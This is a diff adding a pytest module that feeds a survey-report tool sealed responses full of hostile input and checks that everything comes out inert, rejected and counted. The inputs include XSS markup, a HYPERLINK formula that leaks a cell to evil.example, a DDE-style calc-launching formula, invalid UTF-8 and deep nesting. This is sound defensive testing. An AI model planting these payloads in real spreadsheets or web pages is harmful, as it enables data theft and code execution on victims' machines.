@@ -1,0 +1,161 @@
+"""Hostile content is inert: records sealed straight to the analyst's key (as a hostile
+respondent with the public key can) carrying markup, formulas, over-long strings, invalid UTF-8,
+non-JSON and answers that do not fit go through `report` without a crash, are counted and listed,
+never enter a figure, and come out as text."""
+
+from __future__ import annotations
+
+import base64
+import csv
+import hashlib
+import json
+from html.parser import HTMLParser
+from pathlib import Path
+
+import pytest
+from cryptography.hazmat.primitives import serialization
+
+from survey import envelope, plaintext
+from survey.analyst.csvsafe import FORMULA_START
+from survey.exportfile import Record, record_line
+from survey.questionnaire import load
+from tests.conftest import PASSPHRASE, AnalystKey, run_analyst
+
+UID = "hostile-survey-uid"
+SCRIPT = "<script>alert('pwned')</script>"
+IMG = '<img src=x onerror="alert(1)">'
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+ATSUM = "@SUM(1+1)*cmd|' /C calc'!A0"
+HOSTILE_CHANNELS = [SCRIPT, HYPERLINK, ATSUM]
+
+
+def write_export(path: Path, lines: list[bytes], key_id: str, definition: str) -> None:
+    """An export with a manifest that matches its records exactly (count and digest)."""
+    head = {
+        "format": "run-survey-export", "format_version": 1,
+        "survey": {"uid": UID, "title": f"Wave {SCRIPT}"},
+        "questionnaire": {"id": "demo", "version": 1, "definition": definition},
+        "key_id": key_id, "records": len(lines),
+        "records_sha256": hashlib.sha256(b"".join(lines)).hexdigest(),
+    }
+    path.write_bytes(json.dumps(head).encode() + b"\n" + b"".join(lines))
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory: pytest.TempPathFactory, analyst_key: AnalystKey) -> tuple[Path, object]:
+    base = tmp_path_factory.mktemp("hostile")
+    private = serialization.load_pem_private_key(analyst_key.private.read_bytes(), PASSPHRASE.encode())
+    public = private.public_key()
+    q = load(Path("survey/questionnaires/demo.toml").resolve())
+    lines: list[bytes] = []
+
+    def sealed(data: bytes, channel: str = "Street outreach") -> None:
+        lines.append(record_line(Record(channel, envelope.seal(data, public, UID))))
+
+    def doc(answers: dict[str, object], lang: str = "en", qid: str = "demo", version: int = 1) -> bytes:
+        return json.dumps({"f": 1, "questionnaire": qid, "version": version, "lang": lang,
+                           "answers": answers}).encode()
+
+    valid = 0
+    for i in range(36):  # valid responses whose free text and channel are hostile
+        text = [SCRIPT, IMG, HYPERLINK, ATSUM, "+1+1", "-2", "\t=1", "x" * 500][i % 8]
+        sealed(plaintext.encode(q, "en", {"needed_treatment": "no", "treated_unfairly": 1 + i % 5,
+                                           "comment": text}), HOSTILE_CHANNELS[i % 3])
+        valid += 1
+    sealed(doc({"needed_treatment": "no", "comment": "y" * 5000}))  # over-long text
+    sealed(doc({"needed_treatment": "no", "zz": "z" * 60_000}))  # over-long, unknown code
+    sealed(b"\xff\xfe\xfd invalid utf-8 \xc3\x28")
+    sealed(SCRIPT.encode())  # not JSON at all
+    sealed(b"[" * 30_000 + b"]" * 30_000)  # nesting deep enough to overflow a recursive parser
+    sealed(b'{"f": 1}')
+    sealed(doc({"needed_treatment": "no"}, lang=SCRIPT))
+    sealed(doc({"needed_treatment": "no"}, qid=SCRIPT[:40], version=7))  # unknown questionnaire
+    sealed(doc({"needed_treatment": "no"}, version=2))  # unknown version
+    sealed(doc({"needed_treatment": "no", "age": 200}))  # out of range
+    sealed(doc({"needed_treatment": "no", "treated_unfairly": 9}))  # not a scale point
+    sealed(doc({"needed_treatment": IMG}))  # unknown option code
+    sealed(doc({"needed_treatment": "no", HYPERLINK: 1}))  # unknown question code
+    sealed(doc({"needed_treatment": "no", "barriers": ["cost"]}))  # condition does not hold
+    lines.append(b"not json at all " + SCRIPT.encode() + b"\n")
+    lines.append(b'{"channel": "' + IMG.replace('"', "'").encode() + b'", "envelope": "'
+                 + base64.b64encode(b"\x01" * 1200) + b'"}\n')
+    export = base / "hostile.jsonl"
+    write_export(export, lines, analyst_key.key_id, q.source)
+    out = base / "report"
+    result = run_analyst("report", export, "--key", analyst_key.private, "--out", out, "--k", "3", "--workers", "2")
+    return out, (result, valid, len(lines))
+
+
+def test_hostile_records_go_through_without_a_crash_and_are_counted(hostile: tuple[Path, object]) -> None:
+    out, (result, valid, total) = hostile  # type: ignore[misc]
+    assert result.returncode == 0, result.stderr
+    assert "Traceback" not in result.stderr
+    run = json.loads((out / "run.json").read_text())
+    assert run["counts"]["valid"] == valid
+    assert run["counts"]["records"] == total
+    rejected = run["counts"]["rejected"]
+    assert rejected == {
+        "answers do not fit the questionnaire": 7,
+        "plaintext is not a response document": 5,
+        "unknown questionnaire or version": 2,
+        "malformed record": 2,
+    }
+    listed = list(csv.DictReader(open(out / "rejected.csv", encoding="utf-8")))
+    assert len(listed) == total - valid
+
+
+def test_rejected_answers_never_enter_a_figure(hostile: tuple[Path, object]) -> None:
+    out, (_result, valid, _total) = hostile  # type: ignore[misc]
+    rows = list(csv.DictReader(open(out / "aggregates.csv", encoding="utf-8")))
+    totals = {r["variable"]: r["value"] for r in rows if r["table"] == "frequency" and r["category"] == "(total)"}
+    assert totals["needed_treatment"] == str(valid)
+    by_cat = {r["category"]: r["value"] for r in rows if r["table"] == "frequency" and r["variable"] == "needed_treatment"}
+    assert by_cat["no"] == str(valid) and by_cat["yes"] == "0"
+    ages = [r for r in rows if r["table"] == "number" and r["variable"] == "age" and r["statistic"] == "n"]
+    assert ages[0]["value"] == "0"  # nobody valid gave an age: the 200 did not get in
+    assert len(list(csv.DictReader(open(out / "responses.csv", encoding="utf-8")))) == valid
+
+
+class Markup(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[str] = []
+        self.attrs: list[tuple[str, str | None]] = []
+        self.text: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append(tag)
+        self.attrs.extend(attrs)
+
+    def handle_data(self, data: str) -> None:
+        self.text.append(data)
+
+
+def test_the_report_contains_no_live_markup_from_the_records(hostile: tuple[Path, object]) -> None:
+    out, _ = hostile
+    page = Markup()
+    page.feed((out / "report.html").read_text(encoding="utf-8"))
+    assert not {"script", "img", "iframe", "object", "embed", "link", "a", "form", "base", "meta"} & set(page.tags) - {"meta"}
+    assert page.tags.count("meta") == 2  # charset and viewport, ours
+    assert not [name for name, _v in page.attrs if name.startswith("on")]
+    links = [v for name, v in page.attrs if name in ("href", "xlink:href", "src", "action")]
+    assert all(v and v.startswith("#") for v in links), links  # only links inside the page (SVG)
+    text = "".join(page.text)
+    # The hostile channel labels and titles are there, as text.
+    assert SCRIPT in text and HYPERLINK in text
+    # Free text answers are not in the report at all.
+    assert "x" * 500 not in text and IMG not in text.replace("onerror", "")
+
+
+def test_no_csv_cell_starts_with_a_formula_character(hostile: tuple[Path, object]) -> None:
+    out, _ = hostile
+    seen = 0
+    for name in ("responses.csv", "scores.csv", "aggregates.csv", "rejected.csv", "codebook.csv"):
+        with open(out / name, newline="", encoding="utf-8") as fh:
+            for row in csv.reader(fh):
+                for value in row:
+                    seen += 1
+                    assert not value.startswith(FORMULA_START), (name, value[:60])
+    assert seen > 500
+    comments = [r["comment"] for r in csv.DictReader(open(out / "responses.csv", encoding="utf-8"))]
+    assert "'" + HYPERLINK in comments and "'" + ATSUM in comments and SCRIPT in comments
